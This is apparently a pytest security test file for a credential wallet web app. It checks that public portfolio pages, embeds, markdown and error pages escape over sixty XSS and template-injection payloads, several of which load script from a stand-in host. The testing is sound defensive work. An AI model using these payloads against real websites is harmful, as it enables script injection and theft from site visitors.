"""XSS-01 to XSS-05 over everything that strangers open: words stay words, wherever they come from."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from urllib.parse import quote

import pytest

from tests.integration.portfolios.test_recipients_page import build, open_portfolio
from wallet.portfolios import showing
from wallet.store.shown import PortfolioItem, PortfolioSection
from wallet.store.tables import HeldCredential
from wallet.web.markdown import render_markdown

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(2)</script/x>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "<script>alert(4)//",
    '"><script>alert(5)</script>',
    "'><script>alert(6)</script>",
    "</script><script>alert(7)</script>",
    "</title><script>alert(8)</script>",
    "</style><script>alert(9)</script>",
    "</textarea><script>alert(10)</script>",
    "--><script>alert(11)</script>",
    "]]><script>alert(12)</script>",
    '"><img src=x onerror=alert(13)>',
    "<img src=x:x onerror='alert(14)'>",
    "<img/src/onerror=alert(15)>",
    "<IMG SRC=javascript:alert(16)>",
    "<img src='https://track.example/p.gif'>",
    "<img srcset='x' onload=alert(17)>",
    "'><svg/onload=alert(18)>",
    "<svg><script>alert(19)</script></svg>",
    "<svg><animate onbegin=alert(20) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(21)><text>x</text></a></svg>",
    "<svg><foreignObject><body onload=alert(22)></foreignObject></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(23)>",
    "<math href=javascript:alert(24)>x</math>",
    "<iframe srcdoc='<script>alert(25)</script>'>",
    "<iframe src=javascript:alert(26)></iframe>",
    "<object data='data:text/html,<script>alert(27)</script>'>",
    "<embed src=javascript:alert(28)>",
    "<body onload=alert(29)>",
    "<details open ontoggle=alert(30)>x",
    "<video><source onerror=alert(31)></video>",
    "<audio src=x onerror=alert(32)>",
    "<input autofocus onfocus=alert(33)>",
    "<select autofocus onfocus=alert(34)>",
    "<marquee onstart=alert(35)>x</marquee>",
    "<form action=javascript:alert(36)><button>x</button></form>",
    "<button formaction=javascript:alert(37)>x</button>",
    "<a href=javascript:alert(38)>x</a>",
    "<a href='java&#9;script:alert(39)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hPC9zY3JpcHQ+'>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<template><script>alert(40)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(41)>'>",
    "<b style='position:fixed' onmouseover=alert(42)>x</b>",
    "\u202e<b onmouseover=alert(43)>",
    '" onfocus=alert(44) autofocus x="',
    "' onmouseover=alert(45) x='",
    "` onerror=alert(46) x=`",
    "&lt;script&gt;alert(47)&lt;/script&gt;",
    "&#60;script&#62;alert(48)&#60;/script&#62;",
    "%3Cscript%3Ealert(49)%3C/script%3E",
    "\\u003cscript\\u003ealert(50)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(51)\uff1c/script\uff1e",
    "javascript:alert(52)",
    "[x](javascript:alert(53))",
    "![x](https://track.example/p.gif)",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "{% raw %}{{config}}{% endraw %}",
    "%(secret)s %s %n",
    "{0.__class__.__init__.__globals__}",
)
ALL = " \u00b7 ".join(PAYLOADS)  # one text with everything; and each opens and closes what it likes
OUTLETS = ("", "?lang=pl", "/c1", ".json")
NEVER = {"iframe", "frame", "math", "base", "object", "embed", "style", "marquee", "video", "audio", "applet"}


class Reader(HTMLParser):
    """Reads a page as a browser would and keeps what could act."""

    def __init__(self) -> None:
        super().__init__()
        self.acting: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        said = {name: (value or "").strip().casefold() for name, value in attrs}
        acts = (
            tag in NEVER
            or (tag == "script" and not said.get("src", "").startswith("/static/"))
            or (tag == "meta" and "http-equiv" in said)
            or "style" in said
            or "srcdoc" in said
            or any(name.startswith("on") for name in said)
            or any("script:" in said.get(name, "") for name in ADDRESSES)
            or any(said.get(name, "").startswith("data:") for name in ADDRESSES)
            or (tag in {"img", "link", "source"} and any(host in str(said) for host in ELSEWHERE))
        )
        if acts:
            self.acting.append((tag, str(attrs)))


ADDRESSES = ("href", "src", "action", "formaction", "xlink:href")
ELSEWHERE = ("evil.example", "track.example")


def acting(text: str) -> list[tuple[str, str]]:
    reader = Reader()
    reader.feed(text)
    reader.close()
    return reader.acting


@pytest.mark.parametrize("payload", [ALL], ids=["all"])
def test_xss_01_03_04_words_of_learners_and_issuers_stay_words(ola, held, stranger, payload, monkeypatch):
    told = showing.shown_credential

    def hostile(*given, **also):
        from dataclasses import replace

        return replace(
            told(*given, **also), title=payload, issuer=payload, outcomes=(payload,), description=payload,
            recipient_name=payload, grade_facts=((payload, payload),), criteria=payload,
        )  # fmt: skip

    monkeypatch.setattr("wallet.portfolios.composing.shown_credential", hostile)
    portfolio = build(ola, held, display_name=payload, headline=payload, contact=payload)
    with ola.store.write() as session:
        section = session.query(PortfolioSection).filter_by(portfolio_id=portfolio).one()
        section.title = section.claim = section.words = payload
        session.query(PortfolioItem).filter_by(section_id=section.id).one().caption = payload
    path = open_portfolio(ola, portfolio, **{"employer.contact": "on"})
    for outlet in OUTLETS:
        answer = stranger.get(path + outlet)
        assert answer.status_code == 200
        if outlet == ".json":
            assert answer.json["headline"] == payload
            assert answer.mimetype == "application/json"
            continue
        assert acting(answer.text) == []
        assert payload in html.unescape(answer.text)
    single = ola.open_link(held, audience="public", embeddable="on")
    frame = stranger.get(single.replace("/s/", "/embed/"))
    assert acting(frame.text) == []
    assert payload in html.unescape(frame.text)
    said = stranger.get(f"/oembed?url=https://wallet.example{single}").json
    assert re.fullmatch(r"<iframe [^<>]*></iframe>", said["html"])


def test_xss_05_no_script_stands_in_the_page(ola, held, stranger):
    page = stranger.get(open_portfolio(ola, build(ola, held)))
    assert re.findall(r"<script(?![^>]*\ssrc=)[^>]*>", page.text) == []
    assert "ld+json" not in page.text


def test_xss_01_the_list_is_as_long_as_it_should_be():
    assert len(set(PAYLOADS)) >= 60


def test_xss_02_markdown_makes_no_markup_of_its_own():
    for payload in PAYLOADS:
        drawn = str(render_markdown(payload, links=True))
        assert acting(drawn) == []
        assert "<img" not in drawn
    for address in (
        "javascript:alert(1)",
        "data:text/html,x",
        "JaVaScRiPt:x",
        "vbscript:x",
        "file:///etc/passwd",
    ):
        drawn = str(render_markdown(f"[x]({address}) <{address}> [y][r]\n\n[r]: {address}", links=True))
        assert "href" not in drawn


def test_xss_02_deep_quotes_are_cut_and_cost_little():
    drawn = str(render_markdown(">" * 10_000 + " x"))
    assert drawn.count("<blockquote") <= 100


def test_xss_08_an_address_that_leads_nowhere_repeats_nothing(ola, stranger):
    for payload in PAYLOADS:
        answer = stranger.client.get("/" + quote(payload, safe=""), base_url=stranger.home)
        assert answer.status_code in {404, 400, 308}
        assert acting(answer.text) == []


def test_xss_01_search_and_the_holders_own_pages_show_words(ola, held):
    for payload in PAYLOADS[::6]:
        assert acting(ola.browser.get("/?q=" + quote(payload, safe="")).text) == []
    with ola.store.write() as session:
        row = session.get(HeldCredential, held)
        row.title = row.name = ALL[:200]
    for path in ("/", f"/credentials/{held}", "/imports", "/portfolios"):
        assert acting(ola.browser.get(path).text) == []


@pytest.mark.parametrize("text", [PAYLOADS[0], PAYLOADS[13], PAYLOADS[19], PAYLOADS[38], PAYLOADS[42]])
def test_the_reader_would_see_them(text):
    """Unescaped they act: else the tests above would look for nothing."""
    assert acting(text)
